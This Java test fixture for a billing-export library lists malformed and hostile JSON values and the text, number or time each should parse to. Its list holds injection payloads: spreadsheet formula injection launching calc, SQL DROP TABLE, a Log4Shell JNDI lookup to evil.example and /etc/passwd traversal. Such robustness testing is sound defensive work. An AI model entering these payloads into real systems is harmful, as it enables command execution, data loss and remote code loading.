package dev.billingexport.testing;

import dev.billingexport.session.NumberOrText;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/**
 * JSON where a harmless value was expected, and what is to become of it. A field of a kind that can't take it makes a
 * problem; otherwise it is kept exactly.
 *
 * @param json null where the field is left out
 */
public record HostileValue(String json, Object asText, Object asNumber, Object asTime) {

    /** What can't be taken: a problem is due. */
    public static final Object NONSENSE = new Object();

    public enum Kind {
        TEXT,
        NUMBER,
        /** A number that nobody bills. */
        FIGURE,
        TIME
    }

    public Object as(Kind kind) {
        return switch (kind) {
            case TEXT -> asText;
            case NUMBER -> asNumber;
            case FIGURE -> figure();
            case TIME -> asTime;
        };
    }

    private Object figure() {
        if (asNumber != NONSENSE) {
            return asNumber == null ? null : NumberOrText.of((BigDecimal) asNumber);
        }
        if (asText != NONSENSE) {
            return NumberOrText.of((String) asText);
        }
        return json.equals("[]") || json.equals("{}") ? null : NumberOrText.of(json);
    }

    public static List<HostileValue> all() {
        List<HostileValue> all = new ArrayList<>();
        all.add(new HostileValue(null, null, null, null));
        all.add(new HostileValue("null", null, null, null));
        all.add(new HostileValue("\"\"", "", null, null));
        all.add(new HostileValue("true", "true", NONSENSE, NONSENSE));
        all.add(new HostileValue("false", "false", NONSENSE, null));
        for (String json : List.of("[]", "{}")) {
            all.add(new HostileValue(json, NONSENSE, NONSENSE, null));
        }
        for (String json : List.of("[1]", "{\"a\":{\"b\":[null]}}", "[".repeat(400) + "]".repeat(400))) {
            all.add(new HostileValue(json, NONSENSE, NONSENSE, NONSENSE));
        }
        String digits = "9".repeat(44);
        all.add(number("12.50", "12.50"));
        all.add(new HostileValue("-5", "-5", new BigDecimal("-5"), null));
        all.add(number(digits, digits));
        all.add(number("1e50", "1E+50"));
        all.add(number("1e-50", "1E-50"));
        all.add(new HostileValue("-0.0", "0.0", new BigDecimal("0.0"), null));
        all.add(new HostileValue("1e400", "1E+400", NONSENSE, NONSENSE));
        all.add(new HostileValue("-1e999999", "-1E+999999", NONSENSE, NONSENSE));
        all.add(new HostileValue("9".repeat(900), "9".repeat(900), NONSENSE, NONSENSE));
        all.add(new HostileValue(
                "1790845200", "1790845200", new BigDecimal("1790845200"), Instant.parse("2026-10-01T09:00:00Z")));
        all.add(text("  12.50 ", new BigDecimal("12.50"), NONSENSE));
        all.add(text("\u0663", new BigDecimal("3"), NONSENSE));
        all.add(text("0", BigDecimal.ZERO, null));
        all.add(text("0000-00-00 00:00:00", NONSENSE, null));
        for (String none :
                List.of("-", "N/A", "0000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "1582-10-10T00:00:00Z")) {
            all.add(text(none, NONSENSE, null));
        }
        for (String time : List.of("1971-01-01T00:00:00Z", "9998-12-31T23:59:59Z")) {
            all.add(text(time, NONSENSE, Instant.parse(time)));
        }
        for (String text : TEXTS) {
            all.add(text(text, NONSENSE, NONSENSE));
        }
        return all;
    }

    private static final List<String> TEXTS = List.of(
            "NaN",
            "-Infinity",
            "1e400",
            "1e99999999999",
            "twelve",
            "1,5",
            "0x10",
            "2026-02-30 00:00:00",
            "10000-01-01T00:00:00Z",
            "=1+1",
            "+1+2",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "=cmd|'/c calc'!A1",
            "'=1",
            "_x0041_",
            "<b>&amp;</b> ]]>",
            "a\u0000b",
            "\u001b[2Jgone\u0007",
            "two\nlines\r\nthree",
            "\ud83d",
            "\ude00\ud83d",
            "\ud83c\udfa7",
            "\ufeff\u202e\ufffe\uffff",
            "'); DROP TABLE session; --",
            "${jndi:ldap://evil.example/x}",
            "{{x}} %s %n \\ \"",
            "../../../etc/passwd",
            "x".repeat(40_000),
            "\ud83c\udfa7".repeat(20_000));

    private static HostileValue number(String json, String digits) {
        return new HostileValue(json, digits, new BigDecimal(digits), NONSENSE);
    }

    private static HostileValue text(String text, Object asNumber, Object asTime) {
        return new HostileValue(quoted(text), text, asNumber, asTime);
    }

    /** In ASCII, so that halves of pairs arrive as they are. */
    public static String quoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char character : text.toCharArray()) {
            boolean plain = character >= ' ' && character < 127 && character != '"' && character != '\\';
            json.append(plain ? String.valueOf(character) : "\\u%04x".formatted((int) character));
        }
        return json.append('"').toString();
    }
}
